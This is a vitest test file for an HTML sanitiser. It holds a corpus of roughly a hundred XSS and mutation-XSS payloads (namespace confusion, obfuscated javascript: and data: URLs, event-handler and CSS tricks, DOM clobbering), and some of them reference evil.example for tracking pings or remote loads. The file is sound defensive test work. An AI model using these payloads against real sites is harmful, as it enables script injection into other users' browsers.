import { describe, expect, it } from 'vitest';
import { executableHtml } from '../../tests/support/executable-markup';
import { sanitiseHtml } from './sanitise-html';

/**
 * A corpus of mutation-XSS and filter-evasion payloads, grouped by the trick they play. Each output is read
 * by a real HTML parser (jsdom) and must carry nothing a browser would run, load or navigate to, must not
 * change when parsed again, and must sanitise to itself.
 */
const CORPUS: Record<string, string[]> = {
  'raw-text elements that end inside an attribute (namespace confusion)': [
    '<noscript><a title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><b title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><i title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<style><b title="</style><img src=x onerror=alert(1)>"></b></style>',
    '<title><b title="</title><img src=x onerror=alert(1)>"></b></title>',
    '<textarea><b title="</textarea><img src=x onerror=alert(1)>"></b></textarea>',
    '<xmp><b title="</xmp><img src=x onerror=alert(1)>"></b></xmp>',
    '<iframe><b title="</iframe><img src=x onerror=alert(1)>"></b></iframe>',
    '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
    '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  ],
  'SVG and MathML foreign content': [
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<svg><foreignobject><p><style><!--</style><img src=x onerror=alert(1)>--></p></foreignobject></svg>',
    '<math><annotation-xml encoding="text/html"><style><img src onerror=alert(1)></style></annotation-xml></math>',
    '<table><caption><svg><style><img src onerror=alert(1)></style></svg></caption></table>',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<math href="javascript:alert(1)">click</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxKSIvPg==#x"/></svg>',
  ],
  'comments, bogus comments and processing instructions': [
    '<!--><img src=x onerror=alert(1)>-->',
    '<!---><img src=x onerror=alert(1)>-->',
    '<!--!><img src=x onerror=alert(1)>-->',
    '<!--a--!><img src=x onerror=alert(1)>',
    '<?><img src=x onerror=alert(1)>',
    '</a/><img src=x onerror=alert(1)>',
    '<! foo><img src=x onerror=alert(1)>',
    '<p><!-- </p><img src=x onerror=alert(1)> --></p>',
  ],
  'script URLs hidden by entities, whitespace, case and control characters': [
    '<a href="&#x6a;avascript&#x3a;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="&#x20;&#x20;javascript:alert(1)">x</a>',
    '<a href="jav\u0000ascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href="\u0001\u0002javascript:alert(1)">x</a>',
    '<a href="java&#x0d;script:alert(1)">x</a>',
    '<a href="&Tab;javascript:alert(1)">x</a>',
    '<a href="javascript\u00ad:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="vbscript&colon;msgbox(1)">x</a>',
    '<img src="&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a&#x61&#x6c&#x65&#x72&#x74&#x28&#x31&#x29">',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<q cite="  javascript:alert(1)">q</q>',
  ],
  'data: URLs that carry documents or script': [
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DaTa:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:application/xhtml+xml,<x:script xmlns:x=%22http://www.w3.org/1999/xhtml%22>alert(1)</x:script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href=" data:text/javascript,alert(1)">x</a>',
  ],
  'attributes that load documents or submit forms': [
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<div srcdoc="<script>alert(1)</script>">x</div>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<input type="image" src="x" formaction="javascript:alert(1)">',
    '<isindex action="javascript:alert(1)" type="image">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<video poster="javascript:alert(1)"></video>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<img lowsrc="javascript:alert(1)" src="x">',
    '<img srcset="javascript:alert(1) 1x, x 2x" src="x">',
    '<a href="/ok/" ping="https://evil.example/track">x</a>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<portal src="https://evil.example/"></portal>',
  ],
  'attribute and tag boundaries': [
    '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
    '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
    '<div title="</div><script>alert(1)</script>">x</div>',
    '<img src=x onerror\t=alert(1)>',
    '<img src=x on\u0000error=alert(1)>',
    '<img src=x onError=alert(1)>',
    '<a href=x onmouseover\n=alert(1)>x</a>',
    '<img src="x`" onerror=alert(1)//`>',
    '<<script>script>alert(1)<</script>/script>',
    '<a<img src=x onerror=alert(1)>',
    '<img src=x onerror=alert(1)<!--',
    '<p title="a\u2028" onclick="alert(1)">x</p>',
    '<img src=x \u000conerror=alert(1)>',
    '<div/onclick=alert(1)>x</div>',
    '<p/title="x"/onclick=alert(1)>x</p>',
  ],
  'style that loads or runs something': [
    '<p style="background:url(\'java\\73 cript:alert(1)\')">x</p>',
    '<p style="color: red; background-image: u\\rl(x)">x</p>',
    '<p style="width: expression\\28 alert(1)\\29">x</p>',
    '<p style="--x: url(https://evil.example/x)">x</p>',
    '<p style="background: image-set(&quot;https://evil.example/x.png&quot; 1x)">x</p>',
    '<p style="color:red/**/;background:url(x)">x</p>',
    '<p style="font-family: &quot;x&quot;; behavior: url(#default#time2)">x</p>',
    '<style>*{background:url(javascript:alert(1))}</style>',
    '<p style="background:&#x75;&#x72;&#x6c;(https://evil.example/)">x</p>',
  ],
  'templates, shadow roots and DOM clobbering': [
    '<template><script>alert(1)</script></template>',
    '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
    '<form id="x"><input name="y"></form>',
    '<img name="getElementById" src="x">',
    '<a id="location" href="/x/">x</a>',
    '<p id="__proto__">x</p>',
    '<details open ontoggle="alert(1)"><summary>s</summary></details>',
    '<custom-element onclick="alert(1)" is="x">x</custom-element>',
  ],
};

const ALLOWED_ELEMENTS = new Set(
  'a abbr article aside b blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li mark ol p pre q s section small span strong sub summary sup table tbody td tfoot th thead time tr u ul'.split(
    ' ',
  ),
);

function elementsOutsideTheAllowList(html: string): string[] {
  const found: string[] = [];
  for (const [, name = ''] of html.matchAll(/<\/?([a-z][a-z0-9-]*)/gi)) {
    if (!ALLOWED_ELEMENTS.has(name.toLowerCase())) found.push(name);
  }
  return found;
}

describe.each(Object.entries(CORPUS))('sanitiseHtml corpus: %s', (_group, payloads) => {
  it.each(payloads)('%s', (payload) => {
    const output = sanitiseHtml(payload);
    expect(executableHtml(output)).toEqual([]);
    expect(elementsOutsideTheAllowList(output)).toEqual([]);
    expect(sanitiseHtml(output)).toBe(output);
  });
});

describe('sanitiseHtml corpus: what stays', () => {
  it('keeps safe links, embedded raster images and new-tab links made safe', () => {
    const output = sanitiseHtml(
      '<a href="https://shop.example/x?a=1&amp;b=2" target="_blank">x</a><img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    );
    expect(output).toContain('href="https://shop.example/x?a=1&amp;b=2"');
    expect(output).toContain('rel="noopener noreferrer"');
    expect(output).toContain('src="data:image/png;base64,iVBORw0KGgo="');
    expect(executableHtml(output)).toEqual([]);
  });
});
